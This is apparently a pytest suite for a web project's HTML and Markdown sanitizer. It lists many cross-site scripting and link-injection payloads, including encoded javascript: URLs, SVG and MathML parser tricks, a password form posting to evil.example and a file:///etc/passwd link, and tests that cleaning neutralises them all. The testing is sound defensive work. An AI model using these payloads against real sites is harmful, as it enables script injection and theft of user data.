"""What may reach a page: hostile texts are cleaned every way, and the result is read as a browser reads it."""

import re
import xml.etree.ElementTree as ET

import html5lib
import pytest

from peerchallenge.prose.clean import Leads, clean, leads, with_base
from peerchallenge.prose.convert import Text, convert

TAGS = {"p", "strong", "em", "code", "pre", "blockquote", "br", "hr", "sup", "abbr", "a", "img", "ul", "ol", "li"}
TAGS |= {"dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "div", "section", "h2", "h3", "h4", "h5", "h6"}
ATTRIBUTES = {"id", "href", "src", "alt", "title", "class", "scope", "role", "tabindex", "aria-label", "start", "value"}
CLASSES = {"table", "footnotes", "visually-hidden", "back", "is-right", "is-centre"}

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\x0d\x0a>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' ONERROR='alert(1)'>",
    "<img src=https://evil.example/pixel.gif alt=x>",
    "<img src=//evil.example/pixel.gif alt=x>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4= alt=x>",
    "<img srcset='https://evil.example/a 1x' alt=x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset onload=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='ftp://evil.example/x'>x</a>",
    "<a href='view-source:https://x.example'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='///evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='\\/evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https:///evil.example'>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<a href='x' target=_blank ping=https://evil.example onclick=alert(1)>x</a>",
    "<a href='x' download>x</a>",
    "<a id=location href=x name=cookie>x</a>",
    "<img name=body alt=x src=x><img id=getElementById alt=x src=x>",
    "<p id='x onclick=alert(1)'>x</p>",
    "<h2 id='\"><script>alert(1)</script>'>x</h2>",
    "<h2 class='visually-hidden govuk-header' id=main>x</h2>",
    "<p class='site-header'>x</p>",
    "<div data-pagefind-body data-pagefind-meta='title:Wrong'>x</div>",
    "<p data-pagefind-ignore=all>x</p>",
    "<div data-pagefind-filter='council:Other' data-pagefind-weight=10>x</div>",
    "<div role=alert aria-live=assertive aria-hidden=true>x</div>",
    "<div role=region tabindex=5 contenteditable>x</div>",
    "<ol start='-1'><li value=9>x</ol>",
    "<ol start='99999999999999999999'><li>x</ol>",
    "<td background=javascript:alert(1)>x</td>",
    "<table><tr><td><form></table><input>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<title><script>alert(1)</script></title>",
    "<comment><img src='</comment><img src=x onerror=alert(1)>'></comment>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot onslotchange=alert(1)>x</slot>",
    "<dialog open>x</dialog>",
    "<portal src=https://evil.example>",
    "<abbr title='\" onmouseover=alert(1) x=\"'>x</abbr>",
    "</p></div></main><script>alert(1)</script>",
    "</title></style></textarea></script><script>alert(1)</script>",
    "<p title=`javascript:alert(1)`>x</p>",
    "\ud800<img src=x onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)

MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](j\\avascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    '[x](https://e.example "\\" onclick=alert(1)")',
    "[x](https://e.example' onclick='alert(1))",
    '[x](https://e.example"onclick="alert(1))',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,x)",
    "![x](https://evil.example/x.png)",
    '![x" onerror="alert(1)](x.png)',
    "![<script>alert(1)</script>](x.png)",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<data://x>",
    '<a@b"onclick=alert(1)>',
    "<a@b.example?subject=<script>>",
    '*[LGA]: " onmouseover="alert(1)\n\nLGA',
    "*[x]: <script>alert(1)</script>\n\nx",
    "[^<script>]: x\n\nx[^<script>]",
    'x[^" onclick="]\n\n[^" onclick="]: y',
    "# <script>alert(1)</script>",
    '# x {: #main onclick="alert(1)" }',
    "x\n{: onclick=alert(1) style=color:red }",
    "```<script>\nx\n```",
    "``` {.x onclick=alert(1)}\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script> |\n|---|\n| <img onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)",
    "\\<script>alert(1)\\</script>",
    "\x02wxzhdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;",
    "\ue0000\ue000 \ue0010\ue001",
    "https://x.example/<script>alert(1)</script>",
    'https://x.example/"onclick=alert(1)',
    "javascript://x.example https://x.example/`x`*y*",
    "<div markdown=1>\n\n[x](javascript:alert(1))\n\n</div>",
    "[TOC]\n\n///Footnotes Go Here///",
    "!!! note\n    x",
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "<!-- x --><scr<!-- y -->ipt>alert(1)</script>",
    "<scr<!---->ipt>alert(1)",
)


def faults(html: str) -> list[str]:
    """Read HTML as a browser does, and say what in it is not harmless."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag is ET.Comment:
            found.append("comment")
            continue
        if element.tag not in TAGS | {"DOCUMENT_FRAGMENT"}:
            found.append(f"<{element.tag}>")
        found.extend(f"{element.tag} {name}={value}" for name, value in element.items() if not harmless(name, value))
        if element.tag == "img" and re.match(r"\w+:", element.get("src", "")):
            found.append("picture from elsewhere")
    return found


def harmless(name: str, value: str) -> bool:
    """Say whether an attribute does nothing by itself."""
    if name in {"href", "src"}:
        seen = re.sub(r"[\x00-\x20]", "", value).replace("\\", "/").casefold()
        if seen.startswith("//"):
            return False
        scheme = re.match(r"([a-z][a-z0-9+.-]*):(.*)", seen)
        web = bool(scheme) and scheme[1] in {"http", "https"} and bool(re.match(r"//[^/]", scheme[2]))
        return web or not scheme or scheme[1] in {"mailto", "tel"}
    if name == "class":
        return set(value.split()) <= CLASSES
    if name == "id":
        return bool(re.fullmatch(r"[a-z][a-z0-9-]*", value))
    return name in ATTRIBUTES


@pytest.mark.parametrize("payload", HTML)
def test_hostile_html_is_harmless_once_cleaned(payload):
    """No HTML, however it came in, leaves anything active behind."""
    assert faults(clean(payload)) == []
    assert faults(clean(f"<table><tr><td>{payload}</td></tr></table>")) == []


@pytest.mark.parametrize("payload", HTML + MARKDOWN)
@pytest.mark.parametrize("kind", ["document", "passage", "line"])
def test_hostile_texts_are_harmless_once_converted(payload, kind):
    """Whatever a text holds, its page does nothing but show it."""
    html = convert(Text(kind, f"Before {payload} after\n\n{payload}\n\n- item\n\n  {payload}")).body.__html__()
    assert faults(html) == []
    assert "Before" in html


def test_the_audit_finds_what_is_active():
    """The audit itself sees each sort of harm; else the tests above could not fail."""
    marked = (
        "<!-- x -->",
        "<a href=//x>",
        "<a href='/\\x'>",
        "<a href='java\tscript:x'>",
        "<p class=x>",
        "<p style=x>",
    )
    for harm in HTML[:6] + marked:
        assert faults(harm), harm


def test_what_the_program_writes_is_kept():
    """Tables, footnotes and anchors come through the cleaner whole."""
    html = (
        '<h2 id="a-b">A</h2><div aria-label="Table: A" class="table" role="region" tabindex="0"><table><thead><tr>'
        '<th scope="col" class="is-right">x</th></tr></thead></table></div><ol start="3"><li id="note-1">x</li></ol>'
    )
    kept = clean(html)
    for part in re.findall(r'[a-z-]+="[^"]*"', html):
        assert part in kept, part


@pytest.mark.parametrize(
    ("address", "where"),
    [
        ("https://x.example/a?b#c", Leads.ELSEWHERE),
        ("http://x.example", Leads.ELSEWHERE),
        ("mailto:a@b.example", Leads.ELSEWHERE),
        ("tel:+441632960000", Leads.ELSEWHERE),
        ("/challenges/x/", Leads.SITE),
        ("#contents", Leads.PAGE),
        ("table.pdf", Leads.FILE),
        ("my table.pdf", Leads.FILE),
        ("../other/letter.md#part", Leads.FILE),
        ("//evil.example", Leads.NOWHERE),
        ("/\\evil.example", Leads.NOWHERE),
        ("C:\\plan.docx", Leads.NOWHERE),
        ("javascript:x", Leads.NOWHERE),
        ("https:x", Leads.NOWHERE),
        ("", Leads.NOWHERE),
    ],
)
def test_an_address_leads_where_a_browser_would_go(address, where):
    """Each address is one of five things, and what a browser might read otherwise is none."""
    assert leads(address) is where


def test_the_base_path_goes_before_paths_of_this_site_only():
    """Only addresses that begin with one slash are moved; words that look like HTML are not touched."""
    html = clean(
        '<p title="x">href="/x/" &lt;a href="/y/"></p><a href="/x/?a=1&amp;b=2">x</a><a href="#x">x</a>'
        '<a href="https://e.example/x">x</a><img alt="<a href=/z/>" src="/i.png">'
        '<abbr title="&lt;a b=">c</abbr>" href="/x"'
    )
    moved = with_base(html, "/peers/")
    assert moved.count("/peers/") == 2
    assert '<a href="/peers/x/?a=1&amp;b=2">' in moved
    assert 'src="/peers/i.png"' in moved
    assert moved.replace("/peers/", "/") == html
    html += clean('<a href="it\'s.pdf">x</a>')
    assert with_base(html, "/") == with_base(html, "") == html


def test_files_beside_a_text_are_given_their_addresses():
    """The name of a file becomes its address, with the base path and whatever part of it was meant."""
    html = clean('<a href="my%20plan.pdf">x</a><a href="../b/letter.md#two">y</a><a href="other.pdf">z</a>')
    files = {"my plan.pdf": "/c/my-plan.pdf", "../b/letter.md": "/b/letter/"}
    moved = with_base(html, "/base", files)
    assert re.findall('href="([^"]*)"', moved) == ["/base/c/my-plan.pdf", "/base/b/letter/#two", "other.pdf"]
